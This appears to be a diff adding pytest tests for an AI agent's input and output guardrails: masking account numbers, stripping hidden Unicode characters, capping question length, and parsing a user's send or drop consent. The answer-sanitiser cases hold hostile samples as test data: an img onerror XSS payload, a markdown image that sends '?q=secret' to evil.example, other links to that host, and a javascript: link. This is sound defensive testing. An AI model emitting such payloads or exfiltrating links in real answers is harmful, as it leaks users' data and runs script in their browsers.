@@ -1,0 +1,54 @@
+"""What comes in is cleaned before anything is stored; what goes out carries nothing away."""
+
+import pytest
+
+from agent.consent import consent
+from agent.guardrails import EmptyQuestion, QuestionTooLong, clean_answer, clean_question
+
+
+def test_account_numbers_are_masked_before_anything_is_stored() -> None:
+    assert "DE89370400440532013000" not in clean_question("Is DE89 3704 0044 0532 0130 00 ours?", 4000).replace(" ", "")
+
+
+@pytest.mark.parametrize("hidden", ["\u202e", "\u200b", "\U000e0041", "\u2066", "\x00"])
+def test_hidden_characters_are_taken_out(hidden: str) -> None:
+    assert hidden not in clean_question(f"What is{hidden} our DSO?", 4000)
+
+
+def test_nothing_but_hidden_characters_is_no_question() -> None:
+    with pytest.raises(EmptyQuestion):
+        clean_question("\u200b \u200b", 4000)
+
+
+def test_a_question_has_a_longest_length() -> None:
+    with pytest.raises(QuestionTooLong):
+        clean_question("a" * 4001, 4000)
+
+
+@pytest.mark.parametrize(
+    ("answer", "kept"),
+    [
+        ("Hi <img src=x onerror=alert(1)>there", "Hi there"),
+        ("![leak](https://evil.example/?q=secret)", ""),
+        ("[click](https://evil.example)", "click"),
+        ("[click][1]\n\n[1]: https://evil.example", "click"),
+        ("see https://evil.example/x now", "see  now"),
+        ("[41.2 days](#F0123456789abcd)", "[41.2 days](#F0123456789abcd)"),
+        ("[page](/v1/documents/d/pages/1)", "[page](/v1/documents/d/pages/1)"),
+        ("[js](javascript:alert(1))", "js"),
+    ],
+)
+def test_an_answer_cannot_carry_data_out(answer: str, kept: str) -> None:
+    assert clean_answer(answer) == kept
+
+
+@pytest.mark.parametrize(
+    ("said", "meant"),
+    [
+        ("send it", "send"), ("Yes, send it for approval.", "send"), ("ja, sende ihn zur Freigabe", "send"), ("yes", "send"),
+        ("drop it", "drop"), ("nein, verwirf den Vorschlag", "drop"),
+        ("send me the ageing", None), ("yes and also raise the limit", None), ("approve it", None), ("do not send it", None),
+    ],
+)  # fmt: skip
+def test_the_askers_word_is_short_and_whole(said: str, meant: str | None) -> None:
+    assert consent(said) == meant
